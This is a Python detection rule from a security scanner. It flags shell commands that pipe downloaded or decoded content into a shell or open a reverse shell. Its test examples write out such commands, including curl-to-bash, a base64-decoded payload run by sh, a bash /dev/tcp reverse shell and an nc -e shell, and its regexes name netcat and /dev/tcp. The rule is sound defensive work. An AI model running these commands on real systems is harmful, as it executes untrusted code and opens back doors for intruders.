"""A command that runs what it fetches or decodes, or opens a shell to elsewhere.

What
----
A shell script, a Dockerfile, a notebook or a call in Python feeds what it downloads, or decodes, to
a shell or an interpreter, or connects a shell to another host.

Why
---
What is downloaded can be another thing tomorrow, and over plain HTTP anybody on the way can make it
one. What is decoded before it is run is meant not to be read. A shell that is connected to another
host is a back door.

Remediation
-----------
Download first, check the digest, read, and only then run. Do not run the script before you have
seen what it decodes.

References
----------
- https://attack.mitre.org/techniques/T1059/004/
- https://attack.mitre.org/techniques/T1105/
- https://cwe.mitre.org/data/definitions/494.html
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from typing import Final

from modelassay.core.facts import Reference
from modelassay.core.findings import Severity
from modelassay.io.shell import pipelines
from modelassay.rules.base import Match, Rule, Subject

RULE = Rule(
    id="shell-command",
    title="A command that runs what it fetches or decodes, or opens a shell to elsewhere",
    severity=Severity.CRITICAL,
    remediation="Download first, check the digest and read; only then run.",
    fires=(
        'reference shell "curl -fsSL https://x.example/a.sh | sudo bash"',
        'reference shell "wget -qO- http://192.0.2.1/a | sh"',
        'reference shell "echo aWQ= | base64 -d | sh"',
        'reference shell "bash -i >& /dev/tcp/192.0.2.1/4444 0>& 1"',
        'reference shell "nc -e /bin/sh 192.0.2.1 4444"',
        'reference docker-add "http://192.0.2.1/a.sh"',
    ),
    silent=(
        'reference shell "wget https://repo.example/Miniconda3.sh -O a.sh"',
        'reference shell "python train.py | tee log.txt"',
        'reference shell "curl -s https://x.example/a.json | python -m json.tool"',
        'reference shell "base64 -d a.b64 > a.bin"',
        'reference docker-add "https://x.example/a.tar.gz"',
    ),
    cwe=494,
    atlas="AML.T0011.000",
)

_LEADING: Final = frozenset(
    (
        *("if", "then", "else", "elif", "do", "while", "until", "!", "time", "sudo", "exec", "env"),
        *("nohup", "command", "builtin", "doas", "setsid", "stdbuf", "nice", "busybox", "xargs"),
        *("-E", "-n", "-s", "-u", "-H", "-0"),
    )
)
_SHELLS: Final = re.compile(r"(?:.*/)?(?:ba|da|z|k|a|c|tc)?sh\Z|(?:source|\.|eval)\Z")
_INTERPRETERS: Final = re.compile(r"(?:.*/)?(?:python[\d.]*|perl|ruby|node|php)\Z")
_FETCHERS: Final = re.compile(r"(?:.*/)?(?:curl|wget|fetch|aria2c|lynx)\Z")
_DECODERS: Final = re.compile(r"(?:.*/)?(?:base64|base32|xxd|openssl|uudecode)\Z")
_DECODING: Final = re.compile(r"-(?:-decode|[a-zA-Z]*[dDr])\Z|\Aenc\Z")
_NETCATS: Final = re.compile(r"(?:.*/)?(?:nc|ncat|netcat|socat|telnet)\Z")
_BACKDOOR: Final = re.compile(r"/dev/(?:tcp|udp)/")
_EXECUTING: Final = re.compile(r"-[a-z]*[ec]\Z|--(?:sh-)?exec\Z|(?i:exec|system):")
_ASSIGNMENT: Final = re.compile(r"\w+=")
_INSECURE: Final = re.compile(r"(?i)\b(?:http|ftp)://|\b(?:\d{1,3}\.){3}\d{1,3}\b")
_LOCAL: Final = re.compile(r"(?i)://(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])")


def check(subject: Subject) -> Iterator[Match]:
    """Yield a match for each such command line."""
    for fact in subject.of(Reference):
        if fact.role == "docker-add" and _insecure(fact.target):
            message = f"ADD fetches {fact.target[:200]!r}, which anybody on the way can change"
            yield Match(message, (fact,), Severity.MEDIUM)
        elif fact.role == "shell":
            for pipeline in pipelines(fact.target):
                words = [_command(one.words) for one in pipeline.commands]
                yield from _judge([one for one in words if one], fact)


def _command(words: Sequence[str]) -> list[str]:
    """Return a command without what only stands in front of one."""
    start = 0
    while start < len(words) and (
        words[start] in _LEADING or _ASSIGNMENT.match(words[start]) or words[start].endswith("()")
    ):
        start += 1
    return list(words[start:])


def _judge(commands: list[list[str]], fact: Reference) -> Iterator[Match]:
    shown = fact.target[:200]
    if any(_is_backdoor(one) for one in commands) or _piped_backdoor(commands):
        yield Match(f"a shell is connected to another host: {shown!r}", (fact,))
        return
    for at, command in enumerate(commands):
        if not _runs_input(command):
            continue
        before = commands[:at]
        if any(_decodes(one) for one in before):
            yield Match(f"what is run is decoded first: {shown!r}", (fact,))
            return
        fetched = next((one for one in before if _FETCHERS.match(one[0])), None)
        if fetched is not None:
            severity = Severity.HIGH if _insecure(" ".join(fetched)) else Severity.MEDIUM
            yield Match(f"what is run is downloaded: {shown!r}", (fact,), severity)
            return


def _runs_input(command: list[str]) -> bool:
    """Whether a command runs what it is fed or given by a substitution."""
    name, given = command[0], command[1:]
    if _SHELLS.match(name):
        scripts = [one for one in given if not one.startswith("-") and one != "$"]
        return not scripts or "-c" in given or "-s" in given
    if _INTERPRETERS.match(name):
        plain = [one for one in given if one not in ("-u", "-B", "-I", "-E", "-s")]
        return not plain or plain[0] == "-" or (plain[0] in ("-c", "-e") and "$" in plain[1:2])
    return False


def _decodes(command: list[str]) -> bool:
    return bool(_DECODERS.match(command[0])) and any(_DECODING.search(one) for one in command[1:])


def _is_backdoor(command: list[str]) -> bool:
    name, given = command[0], command[1:]
    if any(_BACKDOOR.match(one) for one in given):
        return bool(_SHELLS.match(name)) or name.isdigit()
    executing = any(_EXECUTING.match(one) for one in given)
    return bool(_NETCATS.match(name)) and executing and any(_program(one) for one in given)


def _program(word: str) -> bool:
    return bool(re.search(r"(?i)(?:\A|[/:])(?:(?:ba|da|z|k)?sh|cmd(?:\.exe)?|powershell)\b", word))


def _piped_backdoor(commands: list[list[str]]) -> bool:
    """Whether a shell stands between connections: `sh -i | nc host port`."""
    names = [one[0] for one in commands]
    shells = [at for at, one in enumerate(commands) if _SHELLS.match(one[0]) and "-i" in one]
    return bool(shells) and any(_NETCATS.match(name) for name in names)


def _insecure(text: str) -> bool:
    return bool(_INSECURE.search(text)) and not _LOCAL.search(text)
